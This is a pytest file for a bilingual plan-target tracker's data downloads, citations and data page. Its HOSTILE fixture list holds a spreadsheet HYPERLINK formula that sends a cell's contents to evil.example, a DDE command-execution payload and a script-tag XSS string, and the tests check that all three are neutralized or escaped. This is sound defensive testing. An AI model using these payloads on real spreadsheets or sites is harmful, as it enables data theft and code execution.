"""Downloads, spreadsheet safety and citation: every file read back with the tool a reader would use."""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import re
import shutil
import time
import tomllib
import zipfile
from decimal import Decimal
from pathlib import Path

import duckdb
import frictionless
import jinja2
import openpyxl
import pytest
import yaml

from plantracker.site_map import Linker
from hypothesis import given, strategies as st

from plantracker.citation import bibtex_escape, citation
from plantracker.assets.downloads import DownloadFile, data_page_context, human_size, workbook_strings, write_downloads
from plantracker.load import DUCKDB_TYPES, PlanPackage, load, read_packages
from plantracker.query import run_query
from plantracker.settings import Release, load_release
from plantracker.spreadsheet_safety import (FORMULA_PREFIXES, XLSX_MAX_CHARS, neutralize_cell,
                                            spreadsheet_csv_cell, write_rows_csv, xlsx_text)

REPO = Path(__file__).resolve().parents[1]
FIXTURE = REPO / "tests" / "fixtures" / "mini-plan"
REAL = REPO / "datapackages"
RELEASE = Release(version="2026.1", date=dt.date(2026, 11, 29), site_url="https://example.org/tracker/")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "＝全角等号",
    "<script>alert('x')</script> & <b>bold</b>",
    "\u200fRTL mark gnp.exe \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "zero\u200bwidth\u200djoiner",
    "line one\nline two\r\nline three",
    'quotes "inside", and commas',
    "  leading and trailing spaces  ",
    "长" * 4000,  # the longest text the contract allows
]


def _package_sets() -> list:
    sets = [pytest.param("fixture", id="mini-plan")]
    real = sorted(REAL.glob("*/datapackage.json"))
    sets.append(pytest.param("real", id="real-packages", marks=pytest.mark.skipif(
        not real, reason="no packages under datapackages/ yet")))
    return sets


def _copy_fixture(data_dir: Path) -> Path:
    shutil.copytree(FIXTURE, data_dir / "mini-plan")
    return data_dir


@pytest.fixture(scope="module", params=_package_sets())
def built(request, tmp_path_factory):
    """(data_dir, dest_dir, DownloadFiles) for the fixture package and, when present, the real ones."""
    base = tmp_path_factory.mktemp(request.param)
    if request.param == "fixture":
        data_dir = _copy_fixture(base / "data")
    else:  # a snapshot: the packages may be edited while the tests run
        data_dir = base / "data"
        shutil.copytree(REAL, data_dir)
    dest = base / "static"
    return data_dir, dest, _write_downloads(data_dir, dest)


def _write_downloads(data_dir: Path, dest: Path) -> list[DownloadFile]:
    """The load stage, then the downloads: as the build makes them."""
    db = load(data_dir)
    try:
        return write_downloads(db, dest, RELEASE, workbook_strings(_all_strings()))
    finally:
        db.close()


def _packages(data_dir: Path):
    for path in sorted(data_dir.glob("*/datapackage.json")):
        yield path.parent, json.loads(path.read_text(encoding="utf-8"))


def _csv_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[1:]


def _typed(text: str, kind: str):
    """One package CSV cell -> the value a reader should get back from the XLSX."""
    if text == "":
        return None
    if kind == "integer":
        return int(text)
    if kind == "number":
        return float(Decimal(text))
    if kind == "boolean":
        return text.lower() in ("true", "1")
    if kind == "date":
        return dt.date.fromisoformat(text)
    return xlsx_text(text)


# --- the files --------------------------------------------------------------------------------

def test_package_files_are_published_exactly(built):
    """The CSVs byte for byte; the descriptor as the package's, its paths naming the flat files,
    so the folder validates as downloaded."""
    data_dir, dest, _ = built
    for package_dir, descriptor in _packages(data_dir):
        out = dest / "downloads" / descriptor["name"]
        published = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
        assert [r["path"] for r in published["resources"]] == [f"{r['name']}.csv" for r in descriptor["resources"]]

        def without_paths(package: dict) -> dict:
            return {**package, "resources": [{k: v for k, v in r.items() if k != "path"} for r in package["resources"]]}

        assert without_paths(published) == without_paths(descriptor)
        for resource in descriptor["resources"]:
            assert (out / f"{resource['name']}.csv").read_bytes() == (package_dir / resource["path"]).read_bytes()
        report = frictionless.validate(str(out / "datapackage.json"))
        assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "message"])


def test_every_download_is_listed_once_with_its_checksum(built):
    _, dest, files = built
    on_disk = {p.relative_to(dest).as_posix() for p in (dest / "downloads").rglob("*") if p.is_file()}
    assert sorted(f.href for f in files) == sorted(on_disk)
    for f in files:
        data = (dest / f.href).read_bytes()
        assert (f.bytes, f.sha256) == (len(data), hashlib.sha256(data).hexdigest()), f.href
    sums = (dest / "downloads" / "SHA256SUMS").read_text(encoding="utf-8").splitlines()
    listed = dict(reversed(line.split("  ", 1)) for line in sums)
    expected = {f.href.removeprefix("downloads/"): f.sha256 for f in files if f.format != "sha256sums"}
    assert listed == expected
    assert sums == sorted(sums)


def test_zip_validates_with_frictionless_as_downloaded(built, tmp_path):
    data_dir, dest, _ = built
    for package_dir, descriptor in _packages(data_dir):
        zip_path = dest / "downloads" / descriptor["name"] / f"{descriptor['name']}.zip"
        report = frictionless.validate(str(zip_path))
        assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "message"])
        with zipfile.ZipFile(zip_path) as archive:
            names = archive.namelist()
            assert names == sorted(names)
            assert {i.date_time for i in archive.infolist()} == {(2026, 11, 29, 0, 0, 0)}
            archive.extractall(tmp_path / descriptor["name"])
        extracted = tmp_path / descriptor["name"]
        assert sorted(names) == sorted(["datapackage.json"] + [r["path"] for r in descriptor["resources"]])
        inner = json.loads((extracted / "datapackage.json").read_text(encoding="utf-8"))
        for resource in inner["resources"]:
            data = (package_dir / resource["path"]).read_bytes()
            assert resource["bytes"] == len(data)
            assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
        report = frictionless.validate(str(extracted / "datapackage.json"))
        assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "message"])
        # The hash is really checked: a changed byte in the download is reported.
        first = extracted / inner["resources"][0]["path"]
        first.write_bytes(first.read_bytes().replace(b"\n", b"\r\n", 1))
        types = {e[0] for e in frictionless.validate(str(extracted / "datapackage.json")).flatten(["type"])}
        assert "hash-count" in types


def test_xlsx_equals_the_csv_cell_by_cell(built):
    data_dir, dest, _ = built
    for package_dir, descriptor in _packages(data_dir):
        workbook = openpyxl.load_workbook(dest / "downloads" / descriptor["name"] / f"{descriptor['name']}.xlsx")
        names = [r["name"] for r in descriptor["resources"]]
        assert workbook.sheetnames == ["说明 About"] + names
        about = [c for row in workbook["说明 About"].iter_rows(values_only=True) for c in row if c]
        assert RELEASE.version in about and "CC-BY-4.0" in " ".join(map(str, about))
        for resource in descriptor["resources"]:
            kinds = [f["type"] for f in resource["schema"]["fields"]]
            header, rows = _csv_rows(package_dir / resource["path"])
            sheet = list(workbook[resource["name"]].iter_rows(values_only=True))
            assert list(sheet[0]) == header
            assert len(sheet) - 1 == len(rows)
            for got, want in zip(sheet[1:], rows):
                expected = [_typed(text, kind) for text, kind in zip(want, kinds)]
                got = [v.date() if isinstance(v, dt.datetime) else v for v in got]
                assert got == expected
                for value, kind in zip(got, kinds):
                    if value is not None and kind in ("number", "integer"):
                        assert isinstance(value, (int, float)) and not isinstance(value, bool)


def test_xlsx_about_sheet_states_the_licence_once(built):
    """One licence row: the package's licence_note (its own words, which restate the site's licence
    text and may add to it) with the licence's id and address; neither the site's text beside it
    nor the note a second time."""
    data_dir, dest, _ = built
    strings = _all_strings()
    for _, descriptor in _packages(data_dir):
        workbook = openpyxl.load_workbook(dest / "downloads" / descriptor["name"] / f"{descriptor['name']}.xlsx")
        rows = [[c for c in row if c is not None] for row in workbook["说明 About"].iter_rows(values_only=True)]
        note = descriptor["plan"]["licence_note"]
        licence = [row for row in rows if row and row[0] == "许可 Licence"]
        assert licence == [["许可 Licence", note["zh"], note["en"], "CC-BY-4.0", "https://creativecommons.org/licenses/by/4.0/"]]
        cells = [c for row in rows for c in row]
        assert (cells.count(note["zh"]), cells.count(note["en"])) == (1, 1)
        site_texts = [strings[lang]["workbook_licence_text"].format(licence="CC-BY-4.0") for lang in ("zh", "en")]
        assert [t for t in site_texts if t in cells] == []


def test_xlsx_licence_row_takes_the_sites_text_where_the_note_is_empty(tmp_path):
    """A licence_note may be empty in one language (the contract allows it): that language's cell
    is the site's licence text, so the row still states the licence in both."""
    data_dir = _copy_fixture(tmp_path / "data")
    path = data_dir / "mini-plan" / "datapackage.json"
    descriptor = json.loads(path.read_text(encoding="utf-8"))
    descriptor["plan"]["licence_note"]["en"] = ""
    path.write_text(json.dumps(descriptor, ensure_ascii=False, indent=2), encoding="utf-8")
    _write_downloads(data_dir, tmp_path / "static")
    workbook = openpyxl.load_workbook(tmp_path / "static" / "downloads" / "mini-plan" / "mini-plan.xlsx")
    (row,) = [r for r in workbook["说明 About"].iter_rows(values_only=True) if r[0] == "许可 Licence"]
    site_en = _all_strings()["en"]["workbook_licence_text"].format(licence="CC-BY-4.0")
    assert row[1:3] == (descriptor["plan"]["licence_note"]["zh"], site_en)


def test_parquet_reads_back_with_the_same_rows_and_types(built):
    data_dir, dest, _ = built
    con = duckdb.connect()
    for package_dir, descriptor in _packages(data_dir):
        for resource in descriptor["resources"]:
            fields = resource["schema"]["fields"]
            path = str(dest / "downloads" / descriptor["name"] / f"{resource['name']}.parquet")
            described = con.execute("select column_name, column_type from (describe select * from read_parquet($p))",
                                    {"p": path}).fetchall()
            assert described == [(f["name"], DUCKDB_TYPES.get(f["type"], "VARCHAR")) for f in fields]
            got = con.execute("select * from read_parquet($p)", {"p": path}).fetchall()
            db = load(data_dir)
            names = [f["name"] for f in fields]
            typed = run_query(db.con, "resource_rows", table=resource["name"], plan_id=descriptor["name"], columns=names)
            db.close()
            assert got == [tuple(row[n] for n in names) for row in typed]
            assert len(got) == len(_csv_rows(package_dir / resource["path"])[1])
            metadata = dict(con.execute("select decode(key), decode(value) from parquet_kv_metadata($p)",
                                        {"p": path}).fetchall())
            assert metadata["licence"] == descriptor["licenses"][0]["name"]
            assert metadata["release"] == RELEASE.version and descriptor["title"] in metadata["attribution"]
            assert metadata["attribution"].startswith("Plan target tracker: ")  # the compiler, then the dataset


def test_json_has_release_licence_fields_and_exact_rows(built):
    data_dir, dest, _ = built
    for package_dir, descriptor in _packages(data_dir):
        for resource in descriptor["resources"]:
            doc = json.loads((dest / "downloads" / descriptor["name"] / f"{resource['name']}.json").read_text("utf-8"))
            assert doc["release"] == {"version": "2026.1", "date": "2026-11-29", "url": RELEASE.url}
            assert doc["licenses"] == descriptor["licenses"]
            assert [f["name"] for f in doc["fields"]] == [f["name"] for f in resource["schema"]["fields"]]
            header, rows = _csv_rows(package_dir / resource["path"])
            assert len(doc["rows"]) == len(rows)
            strings = [f["name"] for f in resource["schema"]["fields"] if f["type"] == "string"]
            for got, want in zip(doc["rows"], rows):
                want = dict(zip(header, want))
                assert {k: got[k] for k in strings} == {k: want[k] or None for k in strings}


def test_spreadsheet_csv_has_bom_and_neutralized_text(built):
    data_dir, dest, _ = built
    for package_dir, descriptor in _packages(data_dir):
        for resource in descriptor["resources"]:
            path = dest / "downloads" / descriptor["name"] / f"{resource['name']}.spreadsheet.csv"
            assert path.read_bytes().startswith(b"\xef\xbb\xbf")
            with path.open(encoding="utf-8-sig", newline="") as handle:
                got = list(csv.reader(handle))
            header, rows = _csv_rows(package_dir / resource["path"])
            kinds = [f["type"] for f in resource["schema"]["fields"]]
            assert got[0] == header
            for got_row, want in zip(got[1:], rows):
                assert got_row == [t if k in ("number", "integer") else neutralize_cell(t) for t, k in zip(want, kinds)]


def test_two_builds_give_identical_bytes(tmp_path):
    data_dir = _copy_fixture(tmp_path / "data")
    first = _write_downloads(data_dir, tmp_path / "one")
    time.sleep(2.1)  # zip times have 2 s resolution, XLSX properties 1 s
    second = _write_downloads(data_dir, tmp_path / "two")
    assert first == second
    for f in first:
        assert (tmp_path / "one" / f.href).read_bytes() == (tmp_path / "two" / f.href).read_bytes(), f.href


@pytest.mark.skipif(not REAL.is_dir(), reason="needs the shipped packages beside the fixture plan")
def test_a_plans_downloads_do_not_depend_on_the_other_plans(tmp_path):
    """The content store keeps each plan's downloads by that package's bytes alone (assets._downloads):
    so another plan beside it must not change one byte of them. It did: DuckDB wrote a column as
    Parquet REQUIRED when the whole table (every plan's rows) held no null in it, so adding the
    fixture plan, whose optional columns are empty, turned the shipped plans' columns OPTIONAL."""
    alone = tmp_path / "alone"
    shutil.copytree(REAL, alone)
    beside = _copy_fixture(tmp_path / "beside")
    shutil.copytree(REAL, beside, dirs_exist_ok=True)
    files = _write_downloads(alone, tmp_path / "one")
    assert any(f.href.endswith(".parquet") for f in files)
    _write_downloads(beside, tmp_path / "two")
    for f in files:
        if f.plan_id is not None:
            assert (tmp_path / "one" / f.href).read_bytes() == (tmp_path / "two" / f.href).read_bytes(), f.href
    for path in (tmp_path / "one" / "downloads").rglob("*.parquet"):
        with duckdb.connect() as con:
            kinds = {kind for (kind,) in con.execute(
                "select repetition_type from parquet_schema(?) where name <> 'duckdb_schema'", [str(path)]).fetchall()}
        assert kinds == {"OPTIONAL"}, path


def test_rebuild_removes_files_of_a_removed_resource(tmp_path):
    data_dir = _copy_fixture(tmp_path / "data")
    _write_downloads(data_dir, tmp_path / "static")
    (tmp_path / "static" / "downloads" / "mini-plan" / "stale.csv").write_text("x")
    _write_downloads(data_dir, tmp_path / "static")
    assert not (tmp_path / "static" / "downloads" / "mini-plan" / "stale.csv").exists()


# --- hostile text -----------------------------------------------------------------------------

def _hostile_package(tmp_path: Path) -> Path:
    """mini-plan with hostile text in targets.note_en (every one the contract accepts: control
    characters and overlong text are refused by validation and load, see test_validate.py)."""
    data_dir = _copy_fixture(tmp_path / "data")
    targets = data_dir / "mini-plan" / "data" / "targets.csv"
    header, rows = _csv_rows(targets)
    column = header.index("note_en")
    while len(rows) < len(HOSTILE):
        rows.append(rows[0][:])
        rows[-1][header.index("target_id")] = f"hostile-{len(rows)}"
    for row, text in zip(rows, HOSTILE):
        row[column] = text
    with targets.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header] + rows)
    report = frictionless.validate(str(data_dir / "mini-plan" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "message"])
    return data_dir


def test_hostile_text_survives_every_format_and_is_neutralized_for_spreadsheets(tmp_path):
    data_dir = _hostile_package(tmp_path)
    _write_downloads(data_dir, tmp_path / "static")
    out = tmp_path / "static" / "downloads" / "mini-plan"
    # Programs get the text exactly (control characters never get this far: validation refuses them).
    exact = HOSTILE
    assert (out / "targets.csv").read_bytes() == (data_dir / "mini-plan" / "data" / "targets.csv").read_bytes()
    notes = [r["note_en"] for r in json.loads((out / "targets.json").read_text("utf-8"))["rows"]]
    assert notes[: len(HOSTILE)] == exact
    parquet = duckdb.connect().execute("select note_en from read_parquet($p)", {"p": str(out / "targets.parquet")})
    assert [r[0] for r in parquet.fetchall()][: len(HOSTILE)] == exact
    # Spreadsheets get it neutralized; numbers stay numbers.
    with (out / "targets.spreadsheet.csv").open(encoding="utf-8-sig", newline="") as handle:
        sheet_csv = list(csv.DictReader(handle))
    assert [r["note_en"] for r in sheet_csv][: len(HOSTILE)] == [neutralize_cell(h) for h in exact]
    with (out / "observations.spreadsheet.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert next(csv.DictReader(handle))["value"] == "30"  # a number cell is written as is
    workbook = openpyxl.load_workbook(out / "mini-plan.xlsx")
    header = [c.value for c in workbook["targets"][1]]
    cells = [row[header.index("note_en")] for row in workbook["targets"].iter_rows(min_row=2)]
    assert [c.value for c in cells][: len(HOSTILE)] == [xlsx_text(h) for h in exact]
    assert all(c.data_type == "s" for c in cells)
    assert all(not str(c.value).startswith(FORMULA_PREFIXES) for c in cells)
    raw = zipfile.ZipFile(out / "mini-plan.xlsx").read("xl/worksheets/sheet5.xml").decode("utf-8")
    assert "<f>" not in raw and "<f " not in raw  # no formula anywhere in the targets sheet
    assert workbook["observations"]["E2"].value == 30
    assert cells[len(HOSTILE) - 1].value == "长" * 4000
    assert frictionless.validate(str(out / "mini-plan.zip")).valid


def test_write_rows_csv_round_trip(tmp_path):
    rows = [{"label": h, "value": -1.5, "year": 2021, "flag": True, "when": dt.date(2021, 1, 2)} for h in HOSTILE]
    rows.append({"label": "plain 文本", "value": 30.0, "year": None})
    columns = ["label", "value", "year", "flag", "when"]
    path = tmp_path / "chart.csv"
    write_rows_csv(rows, columns, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    with path.open(encoding="utf-8-sig", newline="") as handle:
        got = list(csv.reader(handle))
    assert got[0] == columns
    assert [r[0] for r in got[1:]] == [neutralize_cell(h) for h in HOSTILE] + ["plain 文本"]
    assert got[1][1:] == ["-1.5", "2021", "true", "2021-01-02"]
    assert got[-1][1:] == ["30", "", "", ""]


# --- neutralize_cell properties ---------------------------------------------------------------

LEADING_SPACES = st.text(alphabet=" \u3000\u00a0", max_size=3)


@given(LEADING_SPACES, st.sampled_from(FORMULA_PREFIXES), st.text())
def test_formula_prefixed_text_is_neutralized(spaces, prefix, rest):
    """Also behind spaces, which a program that trims cells drops (" =1+1")."""
    text = spaces + prefix + rest
    assert neutralize_cell(text) == "'" + text
    assert not neutralize_cell(text).lstrip(" \u3000\u00a0").startswith(FORMULA_PREFIXES)


@given(st.text().filter(lambda s: not s.lstrip(" \u3000\u00a0").startswith(FORMULA_PREFIXES)))
def test_other_text_is_unchanged(text):
    assert neutralize_cell(text) == text


@given(st.one_of(st.integers(), st.floats(), st.decimals(), st.booleans(), st.none(), st.dates()))
def test_non_text_is_untouched(value):
    assert neutralize_cell(value) is value


@given(st.text())
def test_xlsx_text_is_safe_and_short(text):
    cell = xlsx_text(text)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert len(cell) <= XLSX_MAX_CHARS
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\r]", cell)


def test_xlsx_text_cuts_what_excel_cannot_hold_with_a_visible_mark():
    """Validation keeps text far shorter; the workbook writer holds Excel's own limit anyway."""
    cell = xlsx_text("长" * (XLSX_MAX_CHARS + 5000))
    assert len(cell) == XLSX_MAX_CHARS and cell.endswith("已截断]")


def test_numbers_in_number_columns_stay_numbers_in_spreadsheet_csv():
    assert [spreadsheet_csv_cell(text, numeric=True) for text in ("-30", "+1.5", "1e3")] == ["-30", "+1.5", "1e3"]
    assert spreadsheet_csv_cell("-30", numeric=False) == "'-30"


# --- citation ---------------------------------------------------------------------------------

def test_citation_names_release_date_and_permanent_url():
    for lang in ("zh", "en"):
        t = {**_all_strings()[lang], "site_title": "Plan tracker"}
        cite = citation(RELEASE, "Targets & {more}", "en/mini-plan/targets/t1/", lang, t)
        url = "https://example.org/tracker/2026.1/en/mini-plan/targets/t1/"
        assert url in cite["text"] and "2026.1" in cite["text"] and "2026-11-29" in cite["text"]
        assert f"url = {{{url}}}" in cite["bibtex"]
        key = re.match(r"@misc\{([^,]+),", cite["bibtex"]).group(1)
        assert key.isascii() and re.fullmatch(r"[a-z0-9-]+", key)
        assert key == re.match(r"@misc\{([^,]+),", citation(RELEASE, "Other title", "en/mini-plan/targets/t1/",
                                                              lang, {**t, "site_title": "X"})["bibtex"]).group(1)
        assert r"Targets \& \{more\}" in cite["bibtex"]
    assert citation(RELEASE, "首页", "", "zh", _all_strings()["zh"])["text"].endswith("https://example.org/tracker/2026.1/")
    # The Chinese line in GB/T 7714 form, the English one with the year after the publisher.
    assert citation(RELEASE, "首页", "", "zh", _all_strings()["zh"])["text"] == (
        "规划目标追踪. 首页（数据版本 2026.1）[EB/OL]. (2026-11-29). https://example.org/tracker/2026.1/")
    assert citation(RELEASE, "Home", "en/", "en", _all_strings()["en"])["text"] == (
        "Plan target tracker (2026). Home (data release 2026.1, 2026-11-29). https://example.org/tracker/2026.1/en/")


@given(st.text())
def test_bibtex_escape_leaves_no_unescaped_specials(text):
    escaped = bibtex_escape(text)
    stripped = re.sub(r"\\textbackslash\{\}|\\[{}&%$#_]|\\\^\{\}|\\~\{\}", "", escaped)
    assert not re.search(r"[{}&%$#_^~\\]", stripped)


def test_citation_cff_matches_release_toml():
    cff = yaml.safe_load((REPO / "CITATION.cff").read_text(encoding="utf-8"))
    release = tomllib.loads((REPO / "release.toml").read_text(encoding="utf-8"))["release"]
    assert cff["cff-version"] == "1.2.0"
    assert str(cff["version"]) == release["version"]
    assert str(cff["date-released"]) == release["date"].isoformat()
    assert cff["url"] == load_release(REPO / "release.toml").url


# --- the data page ----------------------------------------------------------------------------

def _environment() -> jinja2.Environment:
    """The render stage's own environment (autoescape, strict undefined, the `md` filter)."""
    from plantracker.render import template_environment

    return template_environment(REPO / "templates")


def _all_strings() -> dict:
    from plantracker.strings import load_strings

    return load_strings(REPO / "templates")


def _strings() -> dict:
    return yaml.safe_load((REPO / "templates" / "strings.d" / "downloads.yml").read_text(encoding="utf-8"))


def test_strings_have_the_same_keys_in_both_languages():
    strings = _strings()
    assert set(strings) == {"zh", "en"} and set(strings["zh"]) == set(strings["en"])


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_data_page_lists_every_file(built, lang):
    """One row per table (and one for the whole package) linking each of its files with its size;
    checksums only behind the disclosure, exactly the lines of SHA256SUMS, never in the tables."""
    data_dir, dest, files = built
    context = data_page_context(files, read_packages(data_dir))
    page = _environment().get_template("data.md.j2").render(
        lang=lang, t=_all_strings()[lang], link=Linker("data", lang), root="../", release=RELEASE, downloads=context,
        cite=citation(RELEASE, "数据下载" if lang == "zh" else "Data downloads", "data/", lang, _all_strings()[lang]))
    for f in files:
        assert f'<a href="../{f.href}">' in page, f.href
        assert human_size(f.bytes) in page
    tables = re.findall(r"<table\b.*?</table>", page, re.S)
    packages = list(read_packages(data_dir))
    assert len(tables) == len(packages)
    for table, package in zip(tables, packages):
        rows = re.findall(r"<tr><th scope=\"row\"", table)
        assert len(rows) == 1 + len(package.descriptor["resources"])
        assert not any(f.sha256 in table for f in files)
        assert "sha" not in table.lower()
    [checksums] = re.findall(r'<details class="pt-checksums">\s*<summary>[^<]+</summary>\s*<pre><code>(.*?)</code></pre>\s*</details>',
                             page, re.S)
    assert checksums == (dest / "downloads" / "SHA256SUMS").read_text(encoding="utf-8")
    for package in packages:  # each plan under its short title (the one a phone's heading can hold)
        title = (package.plan.get("short_title") or package.plan["title"])[lang]
        assert f'<h2 id="plan-{package.plan_id}">{jinja2.utils.markupsafe.escape(title)}</h2>' in page
    assert "CC-BY-4.0" in page and "@misc{" in page
    assert ("如何引用" if lang == "zh" else "How to cite") in page


def test_data_page_escapes_text_from_the_data():
    files = [DownloadFile("p", None, "zip", "downloads/p/p.zip", 10, "0" * 64)]
    descriptor = {"name": "p", "plan": {"title": {"zh": "<script>x</script>", "en": "a & b"}}, "resources": []}
    meta = [PlanPackage("p", Path("p"), descriptor, descriptor["plan"])]
    page = _environment().get_template("data.md.j2").render(
        lang="en", t=_all_strings()["en"], link=Linker("data", "en"), root="", release=RELEASE, downloads=data_page_context(files, meta),
        cite={"text": "<i>", "bibtex": "@misc{k,\n  title = {a & b}\n}"})
    assert "a &amp; b" in page and "<i>" not in page and "{a &amp; b}" in page
    assert "<script>" not in _environment().get_template("data.md.j2").render(
        lang="zh", t=_all_strings()["zh"], link=Linker("data", "zh"), root="", release=RELEASE, downloads=data_page_context(files, meta),
        cite={"text": "", "bibtex": ""})


def test_human_size():
    assert [human_size(n) for n in (0, 1023, 1024, 1536, 5 * 1024 * 1024)] == ["0 B", "1023 B", "1.0 KB", "1.5 KB",
                                                                               "5.0 MB"]
